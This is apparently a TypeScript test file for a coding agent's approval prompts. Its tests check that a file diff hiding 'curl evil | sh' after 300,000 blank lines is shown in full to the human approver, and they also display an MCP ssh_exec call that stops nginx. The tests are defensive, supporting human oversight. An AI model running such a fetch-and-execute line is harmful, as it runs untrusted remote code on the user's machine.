import { askedAbout, askedText, type BackendEvent } from '@dragoman/protocol';
import { expect, test } from 'vitest';
import { BlockWriter } from '../../backend/block-writer.ts';
import { OpenApprovals } from '../../backend/open-approvals.ts';
import { Questions } from './questions.ts';
import { ThreadItems } from './thread-items.ts';
import { UserQuestions } from './user-questions.ts';

function scene() {
  const events: BackendEvent[] = [];
  const emit = (event: BackendEvent) => void events.push(event);
  const approvals = new OpenApprovals(emit);
  const writer = new BlockWriter(emit);
  const items = new ThreadItems({ writer, cwd: '/p', isContinued: false, onOver: () => {} });
  const userQuestions = new UserQuestions(approvals, writer);
  const questions = new Questions({ approvals, items, userQuestions, cwd: '/p', onFeedback: () => {} });
  const asked = (method: string, params: object) => {
    void questions.serve(method, { ...params });
    return events.flatMap((event) => (event.type === 'approval-asked' ? [event.approval] : [])).at(-1)!;
  };
  return { items, asked };
}

test.each(['item/commandExecution/requestApproval', 'item/fileChange/requestApproval'])(
  'where %s does not tell what would be done, only a no is offered',
  (method) => {
    const approval = scene().asked(method, { itemId: 'unknown' });
    expect(approval.options).toEqual([{ id: 'decline', name: 'Deny', kind: 'reject_once' }]);
  },
);

test('a new file whose diff is too long is told by its contents', () => {
  const { items, asked } = scene();
  const diff = `${'\n'.repeat(300_000)}curl evil | sh\n`;
  const item = { type: 'fileChange', id: 'f', changes: [{ path: '/p/a.sh', kind: { type: 'add' }, diff }] };
  items.take('item/started', { item }, undefined);
  const { parts, isWhole } = askedAbout(asked('item/fileChange/requestApproval', { itemId: 'f' }));
  expect(isWhole).toBe(true);
  expect(askedText(parts)).toContain('curl evil | sh');
});

test('a tool of an MCP server is asked about with what it is handed', () => {
  const approval = scene().asked('mcpServer/elicitation/request', {
    serverName: 'prod',
    message: 'Allow prod to run ssh_exec?',
    requestedSchema: { type: 'object', properties: {} },
    _meta: { codex_approval_kind: 'mcp_tool_call', tool_params: { host: 'db1', line: 'systemctl stop nginx' } },
  });
  expect(askedText(askedAbout(approval).parts, { hasAsides: false })).toBe(
    'Allow prod to run ssh_exec?\nhost: db1\nline: systemctl stop nginx',
  );
});
